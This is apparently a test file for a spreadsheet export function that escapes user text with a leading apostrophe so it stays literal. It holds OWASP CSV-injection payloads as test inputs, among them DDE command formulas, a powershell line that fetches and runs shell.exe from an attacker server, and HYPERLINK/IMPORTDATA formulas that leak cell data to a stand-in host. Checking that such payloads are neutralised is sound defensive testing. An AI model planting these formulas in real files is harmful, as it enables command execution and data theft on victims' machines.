import { parseTyped } from '../../../src/local/emulator/values';
import { fromTypedInput, toSheetValue } from '../../../src/model/sheet-value';

/** OWASP "CSV Injection" payloads (owasp.org/www-community/attacks/CSV_Injection) plus Sheets-specific ones. */
const OWASP = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  '=HYPERLINK("http://attacker.com?leak="&A1&A2,"Error: please click for further information")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+2+3+cmd|' /C calc'!A0",
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  "=10+20+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "\n-3+3+cmd|' /C calc'!D2",
  '=DDE("cmd";"/C calc";"!A0")',
];
const SHEETS = [
  '=IMPORTXML("http://x","//a")',
  '=IMPORTDATA("http://x/?"&A1)',
  '=IMPORTRANGE("abc","A1:Z")',
  '=HYPERLINK("http://x","click")',
  '=IMAGE("http://x/p.png")',
  '+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  ' =1+1',
  "'=1+1",
];
const LOOKS_TYPED = [
  '01234',
  '6161234567890123456',
  '1e5',
  'TRUE',
  'false',
  '2025-07-20',
  '07/20/2025',
  'Aug 25, 2026',
  'Tue, Aug 25, 2026',
  '4.5%',
  '$1,200',
  '(12)',
  '#N/A',
  '.5',
  '1,234',
];

describe('toSheetValue: user text never becomes a formula, number, boolean or date', () => {
  it.each([...OWASP, ...SHEETS, ...LOOKS_TYPED])(
    'escapes %j with a leading apostrophe and keeps the literal',
    (payload) => {
      const v = toSheetValue(payload, 'text');
      expect(v.value).toBe(`'${payload}`);
      expect(v.literal).toBe(payload);
      expect(fromTypedInput(v.value as string)).toBe(payload);
    },
  );

  // #11.6: shapes Sheets parses as dates or money that no list of "risky" prefixes caught.
  const LOCALE_SHAPES = ['Sep-2024', 'Jan-25', 'Dec.25', '₹500', 'R$ 10', '10 €', '1.234,5', '25 Dec 2024'];
  const ORDINARY = [
    'Hello world',
    'We are hiring! 🚀',
    'Q2 results\nRevenue up',
    'café',
    'DDE ("cmd";"/C calc";"!A0")A0',
  ];

  it.each([...LOCALE_SHAPES, ...ORDINARY])(
    'protects every text value, %j included, and Sheets reads it back as that text in any locale',
    (text) => {
      const v = toSheetValue(text, 'text');
      expect(v).toEqual({ value: `'${text}`, literal: text });
      for (const locale of ['en_US', 'en_GB', 'de_DE', 'pt_BR', 'en_IN'])
        expect(parseTyped(v.value as string, locale)).toEqual({ value: text });
    },
  );

  it('the same shapes written bare would not stay text (what the apostrophe prevents)', () => {
    for (const text of LOCALE_SHAPES) {
      const locale = text === '1.234,5' ? 'de_DE' : 'en_US';
      expect(typeof parseTyped(text, locale).value).toBe('number');
    }
  });

  it('protects ids in id columns even though they are all digits', () => {
    expect(toSheetValue('616000001234567891', 'id')).toEqual({
      value: "'616000001234567891",
      literal: '616000001234567891',
    });
  });

  it('writes numbers as numbers with a format that follows the column type', () => {
    expect(toSheetValue(0.045, 'percent')).toEqual({ value: 0.045, format: '0.00%' });
    expect(toSheetValue(1204, 'count')).toEqual({ value: 1204, format: '#,##0' });
    expect(toSheetValue(12.5, 'currency')).toEqual({ value: 12.5, format: '#,##0.00' });
    expect(toSheetValue(3.25, 'number')).toEqual({ value: 3.25 });
    expect(toSheetValue(3.25)).toEqual({ value: 3.25 });
    expect(toSheetValue(Number.NaN, 'count')).toEqual({ value: '' });
  });

  it('writes ISO dates in date columns as date input Sheets parses in every locale, with a date format', () => {
    expect(toSheetValue('2025-07-20', 'date')).toEqual({ value: '2025-07-20', format: 'yyyy-mm-dd' });
    expect(toSheetValue('2015-09-30T18:42:00Z', 'datetime')).toEqual({
      value: '2015-09-30 18:42:00',
      format: 'yyyy-mm-dd hh:mm:ss',
    });
    expect(toSheetValue('2026-06-03T14:46:00', 'datetime')).toEqual({
      value: '2026-06-03 14:46:00',
      format: 'yyyy-mm-dd hh:mm:ss',
    });
  });

  it('still escapes non-ISO text that lands in a date column', () => {
    expect(toSheetValue('=NOW()', 'date')).toEqual({ value: "'=NOW()", literal: '=NOW()' });
    expect(toSheetValue('Lifetime', 'date')).toEqual({ value: "'Lifetime", literal: 'Lifetime' });
  });

  it('writes blanks as empty cells', () => {
    expect(toSheetValue(null)).toEqual({ value: '' });
    expect(toSheetValue('', 'text')).toEqual({ value: '' });
  });
});
